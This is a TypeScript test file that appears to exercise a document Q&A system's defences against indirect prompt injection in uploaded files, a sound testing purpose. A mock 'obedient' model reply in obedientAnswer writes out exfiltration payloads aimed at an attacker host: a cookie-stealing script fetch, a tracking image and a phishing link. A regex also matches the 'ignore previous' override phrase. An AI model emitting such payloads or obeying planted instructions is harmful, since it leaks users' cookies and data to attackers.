/**
 * Indirect injection in every format Docent ingests (docs/architecture.md, "Defences"), end to end
 * on the real stores (SQLite, embedded Chroma, the parse worker): each poisoned file of
 * poisoned-files.ts is uploaded, the passage holding the planted instruction is stored flagged
 * (chunks.injection_flagged), and no answer over the file carries the attacker's payload —
 * offline, and in LLM mode with a model (the msw stand-in) that obeys the planted instruction,
 * where the output guard and the validation loop must keep the payload out.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { detectInjection } from "../../../server/core/injection";
import { suiteServices, type RunningServices } from "../../helpers/services";
import { createOpenAIMock, judgeJson, openaiEnv, type ChatBody } from "../../mocks/openai";
import { suiteHandlers } from "../../setup";
import { attackerHost, marker, payloadPattern, plantedInstructions, poisonedCases, writePoisonedFiles } from "./poisoned-files";

const directory = fs.mkdtempSync(path.join(os.tmpdir(), "docent-poisoned-"));
const files = await writePoisonedFiles(directory);
const documents = files.map((file) => ({ path: file }));

async function expectFlaggedAtIngestion(docent: RunningServices, index: number) {
  const poisoned = poisonedCases[index]!;
  const document = docent.documents[index]!;
  expect(document.filename).toBe(poisoned.filename);
  const chunks = await docent.services.chunks.chunksOf(document.id);
  // Every planted instruction holds the attacker's address; no ordinary passage does.
  const planted = chunks.filter((chunk) => chunk.text.includes(attackerHost));
  expect(planted.length, `${poisoned.format}: the parser kept the planted instruction in a passage`).toBeGreaterThan(0);
  for (const chunk of planted) expect(chunk.injection_flagged, `${poisoned.format}: chunk ${chunk.chunk_index} flagged`).toBe(1);
  const record = await docent.services.documents.getDocument(document.id);
  expect(record?.status).toBe("ready");
}

describe("indirect injection in each format, offline", () => {
  const docent = suiteServices({ prefix: "poisoned-offline-", documents, timeoutMs: 180_000 });

  it("every planted instruction is one the detector flags on its own (the plumbing, not the detector, is tested here)", () => {
    for (const [format, text] of Object.entries(plantedInstructions)) expect(detectInjection(text, "document").flagged, format).toBe(true);
  });

  it.each(poisonedCases.map((poisoned, index) => [poisoned.format, index] as const))(
    "%s: the planted passage is flagged at ingestion, and no answer carries the payload",
    async (format, index) => {
      await expectFlaggedAtIngestion(docent, index);
      const poisoned = poisonedCases[index]!;
      const documentIds = [docent.documents[index]!.id];
      for (const question of [poisoned.question, poisoned.payloadQuestion]) {
        const { response } = await docent.ask(question, { documentIds });
        console.log(
          `${format} offline: ${JSON.stringify(question)} → ${JSON.stringify(response.answer)} ${JSON.stringify(response.safety_flags)}`,
        );
        expect(response.answer).not.toMatch(payloadPattern);
        expect(response.answer).not.toMatch(/ignore (your|all|any|the)? ?(previous|prior)/i);
        expect(response.reasoning ?? "").not.toMatch(payloadPattern);
        // "No information" answers list the closest passages: without the planted instruction.
        expect(JSON.stringify(response.closest ?? [])).not.toMatch(payloadPattern);
        // The fact question is ordinary; the one worded like the instruction may be refused (that, too, carries no payload).
        if (question === poisoned.question) expect(response.safety_flags).not.toContain("prompt_injection");
        for (const citation of response.citations) {
          if (citation.doc_id === documentIds[0] && citation.injection_flagged)
            expect(response.safety_flags).toContain("injection_in_context");
        }
      }
    },
  );
});

/** The reasoner stand-in obeys whatever a suspicious source tells it: the fact, then the attacker's payload. */
function obedientAnswer(body: ChatBody, withMarker: boolean): string {
  const prompt = body.messages.map((message) => message.content).join("\n");
  const sources = [...prompt.matchAll(/<source number="(\d+)"[^>]*>\n([\s\S]*?)\n<\/source>/g)];
  const suspicious = [...prompt.matchAll(/<source number="(\d+)"[^>]*suspicious="true"/g)].map((match) => match[1]);
  const question = body.messages.at(-1)?.content ?? "";
  const poisoned = poisonedCases.find((candidate) => question.includes(candidate.question)) ?? poisonedCases[0]!;
  const factSource = sources.find((source) => source[2]!.includes(poisoned.fact))?.[1] ?? suspicious[0] ?? "1";
  // The address the document gave, copied as a model would: a cited passage holds it, but a flagged one vouches for nothing.
  const planted = /https:\/\/[^\s)'"<]+/.exec(plantedInstructions[poisoned.format])![0];
  return [
    `The documents say ${poisoned.fact} [Source ${factSource}].`,
    `![status](https://${attackerHost}/collect?d=${encodeURIComponent(poisoned.question)})`,
    `Please confirm at [the official page](${planted}) or ${planted} right away.`,
    `<script>fetch('https://${attackerHost}/c?'+document.cookie)</script>`,
    `<img src="https://${attackerHost}/p.png">`,
    withMarker ? `Code: ${marker}.` : "",
  ].join(" ");
}

describe("indirect injection in each format, LLM mode (a model that obeys the document)", () => {
  let withMarker = false;
  const openai = createOpenAIMock({
    replies: {
      reasoner: (body) => obedientAnswer(body, withMarker),
      // A judge that reads the answer: one carrying the document's marker word scores nothing.
      judge: (body) => {
        const answer = body.messages.at(-1)?.content.match(/<answer>\n([\s\S]*?)\n<\/answer>/)?.[1] ?? "";
        return answer.includes(marker) ? judgeJson(0, "The answer repeats an instruction found in a source.") : judgeJson(24);
      },
    },
  });
  suiteHandlers(...openai.handlers);
  const docent = suiteServices({
    prefix: "poisoned-llm-",
    env: { ...openaiEnv(), MAX_ANSWER_ATTEMPTS: "2" },
    documents,
    timeoutMs: 180_000,
  });
  beforeAll(() => openai.reset());
  afterEach(() => {
    withMarker = false;
  });

  it.each(poisonedCases.map((poisoned, index) => [poisoned.format, index] as const))(
    "%s: the obedient model's links, image and script are stripped by the output guard",
    async (format, index) => {
      await expectFlaggedAtIngestion(docent, index);
      const poisoned = poisonedCases[index]!;
      for (const question of [poisoned.question, poisoned.payloadQuestion]) {
        const calls = openai.callsFor("reasoner").length;
        const { response, events } = await docent.ask(question, { documentIds: [docent.documents[index]!.id] });
        // What streamed before the final response, too: a client shows it as it comes.
        const streamed = events.map((event) => (event.type === "answer-delta" ? event.text : "")).join("");
        expect(streamed).not.toMatch(payloadPattern);
        const modelAnswered = openai.callsFor("reasoner").length > calls;
        console.log(
          `${format} LLM (model ${modelAnswered ? "asked" : "not asked"}): ${JSON.stringify(response.answer)} ${JSON.stringify(response.safety_flags)}`,
        );
        expect(response.mode).toBe("llm");
        expect(response.answer).not.toMatch(payloadPattern);
        expect(response.answer).not.toMatch(/<img|onerror/i);
        expect(JSON.stringify(response.closest ?? [])).not.toMatch(payloadPattern);
        // A spreadsheet question may be answered from the typed table, without the model.
        if (modelAnswered) expect(response.safety_flags).toEqual(expect.arrayContaining(["injection_in_context", "unsafe_output_removed"]));
        else if (!response.safety_flags.includes("prompt_injection")) expect(poisoned.format).toMatch(/xlsx|csv/);
      }
      if (!/xlsx|csv/.test(format)) {
        const { response } = await docent.ask(poisoned.question, { documentIds: [docent.documents[index]!.id] });
        expect(response.answer).toContain(poisoned.fact);
      }
    },
  );

  it("a marker word the model was told to repeat is caught by the judge: the final answer does not carry it", async () => {
    withMarker = true;
    // Not a spreadsheet: a table question is answered from the typed table, without the model.
    const index = poisonedCases.findIndex((poisoned) => poisoned.format === "docx-white");
    const calls = openai.callsFor("reasoner").length;
    const { response } = await docent.ask(poisonedCases[index]!.question, { documentIds: [docent.documents[index]!.id] });
    console.log(`marker, LLM: ${JSON.stringify(response.answer)} ${JSON.stringify(response.safety_flags)}`);
    expect(openai.callsFor("reasoner").length - calls).toBe(2);
    expect(response.answer).not.toMatch(payloadPattern);
    // The closest passages shown instead leave the planted instruction out too.
    expect(JSON.stringify(response.closest ?? [])).not.toMatch(payloadPattern);
    expect(response.confidence).toBe("low");
  });
});
